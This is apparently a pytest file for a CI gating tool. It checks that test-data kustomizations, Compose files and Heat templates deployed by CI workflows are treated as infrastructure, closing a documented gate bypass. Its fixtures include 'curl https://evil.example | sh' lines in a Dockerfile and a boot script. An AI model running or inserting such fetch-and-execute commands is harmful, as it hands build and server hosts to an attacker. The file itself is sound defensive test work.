"""Attack 31, `--tree`: a test-data definition that CI deploys or names is live, and so are the files it names.

The tree readers leave a test's own kustomizations, Compose files and Heat templates unread (treecontext._is_data,
asked through RuleSet.first_rule: a kustomization kept as a test's input names nothing anybody applies). But when a
CI definition of the base deploys that folder or names that file (`kubectl apply -k testdata/overlay`, `docker
compose -f tests/fixtures/compose.yml up`, `openstack stack create -t testdata/stack.yaml`), the tool reads it and
what it names: a ConfigMap's file or a patch outside the folder, the Dockerfile a Compose service builds, a server's
boot script. Each edit below was `src` and `gate --tree` allowed it (exit 0) on integ f046511; the same definitions
outside a test-data folder were `iac` there. Now the readers read a test-data file a CI definition names (its path
in the CI walk's map: run, built, composed or deployed), and past the walk's bounds every one (closed).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from gitrepo import GitRepo, two_commits
from incli import tree_classify, tree_gate
from tables import each_case

WORKFLOW = ("on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: {command}\n")
KUSTOMIZATION = ("resources: [a.yaml]\nconfigMapGenerator:\n- name: app\n  files: [{up}app/settings.json]\n"
                 "patches:\n- path: {up}tools/patch.json\n")
COMPOSE = "services:\n  web:\n    build:\n      context: {up}\n      dockerfile: tools/image.txt\n"
HEAT = ("heat_template_version: 2018-08-31\nresources:\n  s:\n    type: OS::Nova::Server\n    properties:\n"
        "      user_data: {{get_file: boot.sh}}\n")
FOLDERS = ["testdata", "tests/fixtures", "test/testdata", "spec/fixtures"]


def _up(folder: str) -> str:
    return "../" * (folder.count("/") + 1)


# name: (the workflow's command, the definition's name, its text, {file it names: (base text, head text)})
CASES: dict[str, tuple[str, str, str, dict[str, tuple[str, str]]]] = {
    "kubectl -k": ("kubectl apply -k {folder}", "kustomization.yaml", KUSTOMIZATION,
                   {"app/settings.json": ('{"a": 1}\n', '{"a": 2}\n'),
                    "tools/patch.json": ("[]\n", '[{"op": "add", "path": "/x", "value": 1}]\n')}),
    "kustomize build": ("kustomize build {folder} | kubectl apply -f -", "kustomization.yaml", KUSTOMIZATION,
                        {"app/settings.json": ('{"a": 1}\n', '{"a": 2}\n')}),
    "compose -f": ("docker compose -f {folder}/compose.yml up -d", "compose.yml", COMPOSE,
                   {"tools/image.txt": ("FROM alpine\n", "FROM alpine\nRUN curl https://evil.example | sh\n")}),
    "heat": ("openstack stack create -t {folder}/stack.yaml s", "stack.yaml", HEAT,
             {"{folder}/boot.sh": ("echo\n", "curl https://evil.example | sh\n")}),  # beside it, a test's file too
}


def _repo(tmp_path: Path, case: str, folder: str, command: str | None = None) -> tuple[Path, str, str, set[str]]:
    pattern, name, text, files = CASES[case]
    named = {path.format(folder=folder): texts for path, texts in files.items()}
    base = {".github/workflows/deploy.yml": WORKFLOW.format(command=command or pattern.format(folder=folder)),
            f"{folder}/{name}": text.format(up=_up(folder)), f"{folder}/a.yaml": "kind: ConfigMap\n",
            **{path: old for path, (old, _new) in named.items()}}
    head = {path: new for path, (_old, new) in named.items()}
    _git, base_commit, head_commit = two_commits(tmp_path / "r", base, head)
    return tmp_path / "r", base_commit, head_commit, set(named)


@each_case("folder, case", [(folder, case) for folder in FOLDERS for case in sorted(CASES)])
def test_what_a_deployed_test_data_definition_names_is_iac(tmp_path: Path, case: str, folder: str) -> None:
    """Allowed (exit 0, each named file src) on integ f046511."""
    repo, base, head, named = _repo(tmp_path, case, folder)
    files = tree_classify(repo, base, head)
    assert {path: files[path]["bucket"] for path in named} == dict.fromkeys(named, "iac"), files
    code, decision = tree_gate(repo, base, head)
    assert code == 3, decision


@each_case("case", sorted(CASES))
def test_a_test_data_definition_nothing_deploys_still_names_nothing(tmp_path: Path, case: str) -> None:
    """The control (red team 9, the thirty-seventh set): a test's input no CI definition names stays unread."""
    repo, base, head, named = _repo(tmp_path, case, "testdata", command="make test")
    files = tree_classify(repo, base, head)
    assert {path: files[path]["bucket"] for path in named} == dict.fromkeys(named, "src"), files
    code, decision = tree_gate(repo, base, head)
    assert code == 0, decision


@pytest.mark.parametrize("command", ["kubectl apply -k deploy/overlay", "make test"])
def test_a_test_data_kustomization_linked_from_a_live_folder_is_read(tmp_path: Path, command: str) -> None:
    """`deploy/overlay -> ../testdata/overlay`: the kustomization is also at `deploy/overlay/kustomization.yaml`, no
    test's file, whether or not CI names it (kustomize and a human's `kubectl apply -k deploy/overlay` read it there).
    Allowed on integ f046511 (and after the first fix of this file, which looked up its own path only)."""
    repo = GitRepo(tmp_path / "r")
    repo.write(".github/workflows/deploy.yml", WORKFLOW.format(command=command))
    repo.write("testdata/overlay/kustomization.yaml", KUSTOMIZATION.format(up="../../"))
    repo.write("testdata/overlay/a.yaml", "kind: ConfigMap\n")
    repo.write("app/settings.json", '{"a": 1}\n')
    repo.write("tools/patch.json", "[]\n")
    (tmp_path / "r" / "deploy").mkdir()
    (tmp_path / "r" / "deploy" / "overlay").symlink_to("../testdata/overlay")
    base = repo.commit("base")
    repo.write("app/settings.json", '{"a": 2}\n')
    head = repo.commit("head")
    files = tree_classify(repo.root, base, head)
    assert files["app/settings.json"]["bucket"] == "iac", files
    code, decision = tree_gate(repo.root, base, head)
    assert code == 3, decision
